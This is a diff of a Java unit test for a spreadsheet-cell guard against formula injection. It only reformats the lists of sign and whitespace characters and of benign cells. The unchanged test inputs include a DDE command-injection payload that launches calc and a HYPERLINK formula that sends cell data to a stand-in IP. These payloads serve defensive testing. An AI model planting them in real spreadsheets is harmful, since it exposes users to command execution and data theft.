@@ -11,13 +11,32 @@ import org.junit.jupiter.params.provider.ValueSource;
 class SpreadsheetCellTest {
 
     private static final List<String> SIGNS = List.of(
-            "=", "+", "-", "@", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20", "\u2212", "\uFE62", "\uFE63", "\uFE66", "\uFE6B",
-            "\u207A", "\u207B", "\u207C", "\u208A", "\u208B", "\u208C");
+            "=", "+", "-", "@", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20", "\u2212", "\uFE62", "\uFE63", "\uFE66",
+            "\uFE6B", "\u207A", "\u207B", "\u207C", "\u208A", "\u208B", "\u208C");
 
     /** Nothing, blanks, tab, line ends, no-break, ideographic, zero width, marks of order and direction, a filler. */
     private static final List<String> BEFORE = List.of(
-            "", " ", "   ", "\t", "\r", "\n", "\r\n\t ", "\u00A0", "\u3000", "\u2003", "\u200B", "\u200E", "\u202E", "\u2060",
-            "\uFEFF", "\u0000", "\u000B", "\u0085", "\u2028", "\u3164", " \u200B\t\u00A0");
+            "",
+            " ",
+            "   ",
+            "\t",
+            "\r",
+            "\n",
+            "\r\n\t ",
+            "\u00A0",
+            "\u3000",
+            "\u2003",
+            "\u200B",
+            "\u200E",
+            "\u202E",
+            "\u2060",
+            "\uFEFF",
+            "\u0000",
+            "\u000B",
+            "\u0085",
+            "\u2028",
+            "\u3164",
+            " \u200B\t\u00A0");
 
     private static final List<String> REST =
             List.of("1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://192.0.2.1/?\"&A1)", "SUM(1)", "");
@@ -37,7 +56,22 @@ class SpreadsheetCellTest {
 
     @ParameterizedTest
     @ValueSource(
-            strings = {"PC-1", "PC=1", "", " ", "a@b", "–", "ー号機", "１号機", "'=1", "(=1)", "KB4012212", "10.1.2.3", "_=1", "#1"})
+            strings = {
+                "PC-1",
+                "PC=1",
+                "",
+                " ",
+                "a@b",
+                "–",
+                "ー号機",
+                "１号機",
+                "'=1",
+                "(=1)",
+                "KB4012212",
+                "10.1.2.3",
+                "_=1",
+                "#1"
+            })
     void everything_else_is_left_as_it_is(String cell) {
         assertThat(SpreadsheetCell.guarded(cell)).isEqualTo(cell);
     }
